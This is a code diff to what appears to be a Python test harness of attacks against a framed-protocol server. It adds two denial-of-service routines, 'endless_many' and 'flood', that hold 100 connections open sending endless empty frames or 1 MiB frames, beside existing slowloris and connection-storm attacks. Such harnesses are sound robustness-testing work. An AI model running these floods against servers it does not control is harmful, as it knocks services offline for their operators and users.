@@ -40,7 +40,8 @@ __all__ = ["KINDS"]
 PAUSE_S: Final = 0.02
 """Between attacks of the kinds whose harm is not their number."""
 SLOW_CONNECTIONS: Final = 200
-STALLED_CONNECTIONS: Final = 20
+STALLED_CONNECTIONS: Final = 100
+MANY_CONNECTIONS: Final = 100
 STORM_PIECE: Final = 64
 RECEIVE_S: Final = 5.0
 
@@ -87,6 +88,44 @@ def endless_large(host: str, port: int, ends_s: float) -> int:
                 peer.sendall(part)
 
     return _again_and_again(host, port, ends_s, one)
+
+
+def endless_many(host: str, port: int, ends_s: float) -> int:
+    """Messages of empty parts that never end, on many connections at once."""
+    parts = memoryview(frame(b"", MORE) * 65_536)
+    return _on_many(host, port, ends_s, parts)
+
+
+def flood(host: str, port: int, ends_s: float) -> int:
+    """Frames of the largest size, whole, with nothing in them, on many connections at once."""
+    return _on_many(host, port, ends_s, memoryview(frame(bytes(1 << 20))))
+
+
+def _on_many(host: str, port: int, ends_s: float, said: memoryview) -> int:
+    """Say one thing again and again on MANY_CONNECTIONS; whoever is hung up on comes again."""
+    left: dict[socket.socket, memoryview] = {}
+    count = 0
+    while not spent(ends_s):
+        with _hung_up_on():
+            if len(left) < MANY_CONNECTIONS:
+                peer = shake_hands(host, port)
+                peer.settimeout(0)
+                left[peer] = said
+        for peer in list(left):
+            try:
+                left[peer] = left[peer][peer.send(left[peer]) :]
+            except BlockingIOError:
+                continue
+            except OSError:
+                peer.close()
+                del left[peer]
+                continue
+            if not left[peer]:
+                left[peer] = said
+                count += 1
+    for peer in left:
+        peer.close()
+    return count
 
 
 def huge_claims(host: str, port: int, ends_s: float) -> int:
@@ -226,7 +265,7 @@ def storm(host: str, port: int, ends_s: float, *, most: int | None = None) -> in
                 peer = connect(host, port)
                 open_now.append(peer)
                 if number % 2:
-                    peer.sendall(greeting() + ready() + hello)
+                    peer.sendall(greeting() + ready() + hello)  # whether they take turns or not
                 count += 1
         for peer in open_now:
             peer.close()
@@ -245,10 +284,11 @@ def stalled_readers(host: str, port: int, ends_s: float) -> int:
             peer.settimeout(RECEIVE_S)
             peer.sendall(hello)
             open_now.append(peer)
+            count += 1
     probes = [memoryview(frame(bytes(_probe_for(peer)))) for peer in open_now]
     left = list(probes)
     for peer in open_now:
-        peer.setblocking(False)
+        peer.settimeout(0)
     while not spent(ends_s):
         for number, peer in enumerate(open_now):
             with _hung_up_on():
@@ -291,6 +331,8 @@ KINDS: Final[dict[str, Attack]] = {
     for attack in (
         endless_small,
         endless_large,
+        endless_many,
+        flood,
         huge_claims,
         slowloris,
         wrong_versions,
